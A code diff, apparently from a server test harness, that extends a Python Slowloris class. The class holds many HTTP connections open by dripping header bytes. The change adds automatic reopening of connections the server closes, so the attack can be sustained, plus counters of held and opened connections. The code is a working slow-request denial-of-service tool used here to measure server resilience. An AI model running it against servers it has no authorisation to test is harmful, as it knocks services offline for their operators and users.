@@ -188,10 +188,12 @@ def first_status(data):
 class Slowloris:
     """`count` connections that each send a request line and then drip one byte of an endless header every
     `drip_interval` seconds, all on one thread. Tracks for each when the server closed it and what it answered;
-    `held()` is how many the server still keeps open."""
+    `held()` is how many the server still keeps open. With `replace`, a connection the server closes is
+    replaced by a new one (at most `count` x 20 in all), so the attack keeps `count` going."""
 
-    def __init__(self, host, port, count, drip_interval=0.5):
+    def __init__(self, host, port, count, drip_interval=0.5, replace=False):
         self.host, self.port, self.count, self.drip_interval = host, port, count, drip_interval
+        self.replace = replace
         self.opened_at = {}     # index -> time.monotonic() at connect
         self.closed_at = {}     # index -> when the server closed it (or refused the connection)
         self.answers = {}       # index -> the bytes the server sent before closing
@@ -202,22 +204,28 @@ class Slowloris:
         self._sel = selectors.DefaultSelector()
 
     def start(self):
-        family = socket.AF_INET6 if ":" in self.host else socket.AF_INET
-        for i in range(self.count):
-            s = socket.socket(family, socket.SOCK_STREAM)
-            s.setblocking(False)
-            s.connect_ex((self.host, self.port))
-            self._sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, i)
-            self.opened_at[i] = time.monotonic()
-            self.answers[i] = b""
+        for _ in range(self.count):
+            self._open()
         self._thread.start()
         return self
+
+    def _open(self):
+        i = len(self.opened_at)
+        s = socket.socket(socket.AF_INET6 if ":" in self.host else socket.AF_INET, socket.SOCK_STREAM)
+        s.setblocking(False)
+        s.connect_ex((self.host, self.port))
+        self.answers[i] = b""
+        with self._lock:
+            self.opened_at[i] = time.monotonic()
+        self._sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, i)
 
     def _closed(self, s, i):
         self._sel.unregister(s)
         s.close()
         with self._lock:
             self.closed_at[i] = time.monotonic()
+        if self.replace and not self._stop.is_set() and len(self.opened_at) < 20 * self.count:
+            self._open()
 
     def _run(self):
         started = {}   # index -> True once its request line went out
@@ -256,7 +264,11 @@ class Slowloris:
 
     def held(self):
         with self._lock:
-            return self.count - len(self.closed_at)
+            return len(self.opened_at) - len(self.closed_at)
+
+    def opened(self):
+        with self._lock:
+            return len(self.opened_at)
 
     def statuses(self):
         """{status: count} over the connections the server closed (0: closed without an answer)."""
